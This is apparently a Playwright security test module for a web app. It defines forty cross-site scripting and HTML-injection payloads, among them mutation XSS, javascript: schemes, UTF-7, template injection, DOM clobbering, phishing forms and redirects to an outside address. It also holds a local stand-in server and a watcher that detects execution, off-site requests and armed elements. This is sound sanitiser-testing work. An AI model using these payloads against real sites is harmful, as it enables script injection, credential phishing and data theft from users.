"""Forty pieces of text that want to run, load, send or lead away; and the eye that notices.

``%N%`` stands for the number of the payload, ``%R%`` for an address outside. Each says first
which one it is, so that a test can be sure to have looked at it.
"""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, Error, Frame, Page, Request

PAYLOADS = {
    "A1 mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=__pwn(%N%)&gt;">',
    "A2 nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src "
    "onerror=__pwn(%N%)>",
    "A3 noscript": '<noscript><p title="</noscript><img src=x onerror=__pwn(%N%)>">',
    "A3 textarea": "<textarea></textarea><img src=x onerror=__pwn(%N%)></textarea>",
    "A3 title": "</title><script>__pwn(%N%)</script><title>",
    "A3 svg style": '<svg></p><style><a id="</style><img src=1 onerror=__pwn(%N%)>">',
    "A3 xmp": '<xmp><p title="</xmp><img src=x onerror=__pwn(%N%)>">',
    "A3 template": "<template shadowrootmode=open><img src=x onerror=__pwn(%N%)></template>",
    "A4 tab in scheme": '<a href="jav&#x09;ascript:__pwn(%N%)" autofocus onfocus=__pwn(%N%)>x</a>',
    "A4 control in scheme": '<a href="&#14;javascript:__pwn(%N%)">x</a>',
    "A4 data address": '<a href="data:text/html,<script>__pwn(%N%)</script>">x</a>'
    '<iframe src="data:text/html,<script>parent.__pwn(%N%)</script>"></iframe>',
    "A4 colon entity": '<iframe src="javascript&colon;parent.__pwn(%N%)"></iframe>',
    "A5 form": '<form action="%R%"><input name=password><button formaction="%R%">x</button></form>'
    '<div style="position:fixed;inset:0;z-index:9999">sign in</div>',
    "A5 base": '<base href="%R%/"><img src=pixel.png><script src=a.js></script>',
    "A5 refresh": '<meta http-equiv=refresh content="0;url=%R%">',
    "A6 style sheet": "<style>@import '%R%/a.css';*{background:url(%R%/b)}</style>",
    "A6 background": '<table background="%R%"><td background="%R%">x</table><p '
    'style="background-image:url(%R%)">x</p>',
    "A6 srcset": '<img srcset="%R% 1x"><picture><source srcset="%R%"><img></picture>',
    "A6 poster": '<video poster="%R%" src="%R%" autoplay></video><audio src="%R%" autoplay>',
    "A7 pixel": '<img src="%R%" width=1 height=1><input type=image src="%R%">',
    "A8 strip once": "<scr<script>ipt>__pwn(%N%)</scr</script>ipt>"
    "<img src=x onerr<b>or=__pwn(%N%)>",
    "A8 template language": "{{constructor.constructor('__pwn(%N%)')()}}{% debug %}${__pwn(%N%)}"
    "{{7*7}}<%= 7*7 %>",
    "A8 clobbering": "<a id=__pwn name=body href='%R%'>x</a><form id=csrfmiddlewaretoken "
    "name=cookie><input name=attributes></form>",
    "A9 svg": "<svg onload=__pwn(%N%)><animate onbegin=__pwn(%N%) attributeName=x dur=1s></svg>",
    "A9 foreign object": "<svg><foreignObject><iframe srcdoc='<script>parent.__pwn(%N%)</script>'>"
    "</foreignObject></svg>",
    "A9 use": '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCcvPg==#x"/>'
    '<image href="%R%"/><set attributeName=onmouseover to=__pwn(%N%)></svg>',
    "A9 split by a comment": "<scr<!-- -->ipt>__pwn(%N%)</scr<!-- -->ipt><!--><img src=x "
    "onerror=__pwn(%N%)>-->",
    "A10 file": "<html><body onload=__pwn(%N%)><script>__pwn(%N%)</script><embed src='%R%'>",
    "A11 out of an attribute": '"><img src=x onerror=__pwn(%N%)>.png',
    "A11 into an attribute": 'x" onmouseover=__pwn(%N%) onfocus=__pwn(%N%) autofocus tabindex=1 '
    "x='",
    "A11 single quotes": "x' autofocus onfocus='__pwn(%N%)' style='x",
    "A11 direction": "\u202egpj.<img src=x onerror=__pwn(%N%)>\u2066\u200b",
    "A12 charset": "+ADw-script+AD4-__pwn(%N%)+ADw-/script+AD4-<meta charset=utf-7>",
    "A13 control": "<img\u000csrc=x\u000conerror=__pwn(%N%)><img/src/onerror=__pwn(%N%)>",
    "own: htmx": '<div hx-get="%R%" hx-trigger="load" hx-on::load="__pwn(%N%)" '
    "data-hx-on:load='__pwn(%N%)'>x</div>",
    "own: custom element": '<ticket-thread data-base="%R%/"><ticket-composer data-upload="%R%">'
    "</ticket-composer></ticket-thread><x onclick=__pwn(%N%)>",
    "own: out of a script": "</script><script>__pwn(%N%)</script><!--<script>",
    "own: twice escaped": "&lt;img src=x onerror=__pwn(%N%)&gt;&amp;lt;img src=x "
    "onerror=__pwn(%N%)&amp;gt;",
    "own: links": 'http://x.example/"onmouseover=__pwn(%N%)//<img/src=x/onerror=__pwn(%N%)> '
    'a@x.example"onclick=__pwn(%N%) javascript:__pwn(%N%)',
    "own: dialogs": "<script>alert(%N%)</script><img src=x onerror=alert(%N%)><details open "
    "ontoggle=alert(%N%)><link rel=stylesheet href='%R%'><object data='%R%'></object>",
}
# For what is cut short or changed to lower case.
SHORT = (
    "<svg/onload=__pwn(%N%)>",
    '"><img src onerror=__pwn(%N%)>',
    "</b><svg/onload=__pwn(%N%)>",
    "'-__pwn(%N%)-'",
    "{{__pwn(%N%)}}",
    "&lt;svg/onload=__pwn(%N%)>",
    '"onfocus=__pwn(%N%) autofocus x="',
    "javascript:__pwn(%N%)",
)


@dataclass(frozen=True)
class Payload:
    number: int
    name: str
    text: str

    @property
    def mark(self) -> str:
        return f"mk{self.number:02d}"

    @property
    def short(self) -> str:
        chosen = SHORT[self.number % len(SHORT)]
        return f"{self.mark} {chosen.replace('%N%', str(self.number))}"


def make_payloads(remote: str) -> list[Payload]:
    made = []
    for number, (name, text) in enumerate(PAYLOADS.items()):
        filled = text.replace("%N%", str(number)).replace("%R%", f"{remote}/{number}")
        made.append(Payload(number, name, f"mk{number:02d} {filled}"))
    return made


# What must never be asked


class _Answer(BaseHTTPRequestHandler):
    """Answers everything with what would run, if it were let in."""

    def do_GET(self) -> None:
        self.server.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if ".js" in self.path else "text/html")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()
        self.wfile.write(b"<script>__pwn('remote')</script>" if ".js" not in self.path else b"1")

    do_POST = do_GET

    def log_message(self, *words: Any) -> None:
        pass


@contextmanager
def listen_outside() -> Iterator[ThreadingHTTPServer]:
    with ThreadingHTTPServer(("127.0.0.1", 0), _Answer) as server:
        server.hits = []
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server
        server.shutdown()


# The eye

VIEWER = ("Applying inline style", "Blocked script execution")
HEAR_POLICY = """document.addEventListener("securitypolicyviolation", (event) => {
  if (window.__csp) window.__csp(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});"""
# Whatever stands in a page as an element and could act once somebody touches it.
FIND_ARMED = """() => {
  const bad = [];
  const safe = new Set(["http:", "https:", "mailto:", "tel:", ""]);
  for (const e of document.querySelectorAll("*")) {
    for (const a of e.attributes) {
      // The back office's own parts have handlers; ours have none.
      const isOurs = location.pathname.startsWith("/admin/") && !/pwn|alert/.test(a.value);
      if (/^on|^(data-)?hx-on/i.test(a.name) && !isOurs) bad.push(`${e.tagName} ${a.name}`);
    }
    const isLink = e.matches("a, area") && e.hasAttribute("href");
    if (isLink && !safe.has(e.protocol)) bad.push(`link ${e.href}`);
    for (const name of ["action", "formAction"]) {
      const to = e.getAttribute?.(name.toLowerCase());
      if (to && new URL(to, location.href).origin !== location.origin) bad.push(`${name} ${to}`);
    }
    if (e.matches("base, embed, object, applet, meta[http-equiv=refresh]")) bad.push(e.tagName);
    if (e.matches("iframe") && !e.hasAttribute("sandbox")) bad.push("a frame without sandbox");
  }
  return bad.concat(document.__pwn || window.__pwn?.tagName ? ["clobbered"] : []);
}"""


@dataclass
class Watch:
    """All that happens in the pages of one context; what is noted is an attack that got through."""

    context: BrowserContext
    home: str
    noted: list[str] = field(default_factory=list)
    place: str = ""
    opened: int = 0

    def __post_init__(self) -> None:
        self.context.expose_binding("__pwn", lambda _s, *what: self.note("executed", *what))
        self.context.expose_binding("__csp", lambda _s, what: self.note("policy report", what))
        self.context.add_init_script(HEAR_POLICY)
        self.context.on("request", self._see_request)
        self.page = self.context.new_page()
        self.page.on("dialog", self._see_dialog)
        self.page.on("popup", lambda popup: self.note("popup", popup.url))
        self.page.on("framenavigated", self._see_navigation)
        self.page.on("console", self._see_console)
        self.page.on("download", lambda download: download.cancel())
        self.expected = ""

    def note(self, kind: str, *what: object) -> None:
        self.noted.append(f"{self.place}: {kind} {' '.join(map(str, what))}"[:300])

    def _see_request(self, request: Request) -> None:
        if urlsplit(request.url).scheme in ("http", "https", "ws", "wss") and not (
            request.url.startswith(self.home)
        ):
            self.note("request", request.url)

    def _see_dialog(self, dialog: Any) -> None:
        # Our own pages ask before they leave while a change is still on its way.
        if dialog.type == "beforeunload":
            dialog.accept()
            return
        self.note("dialog", dialog.message)
        dialog.dismiss()

    def _see_navigation(self, frame: Frame) -> None:
        is_led_away = self.expected and not frame.url.startswith((self.expected, "about:"))
        if frame == self.page.main_frame and is_led_away:
            self.note("navigation", frame.url)

    def _see_console(self, message: Any) -> None:
        words = ("Content Security Policy", "Refused to", "Blocked script", "Blocked form")
        # Chromium's own viewer of a picture is refused its style and script by our policy.
        is_viewer = self.place == "files" and message.text.startswith(VIEWER)
        if any(word in message.text for word in words) and not is_viewer:
            self.note("console", message.text)

    def open(self, path: str) -> Page:
        """The page, once all is loaded that it loads by itself."""
        self.expected = f"{self.home}{path.partition('?')[0]}"
        self.opened += 1
        self.page.goto(f"{self.home}{path}", wait_until="load")
        return self.page

    def inspect(self) -> list[str]:
        """The page and its frames as they stand; notes what is armed in them."""
        shown = []
        for frame in self.page.frames:
            try:
                armed, content = frame.evaluate(FIND_ARMED), frame.content()
            except Error as lost:
                self.note("led away while looking", str(lost).splitlines()[0])
                continue
            for what in armed:
                self.note("armed", what)
            shown.append(content)
        return shown
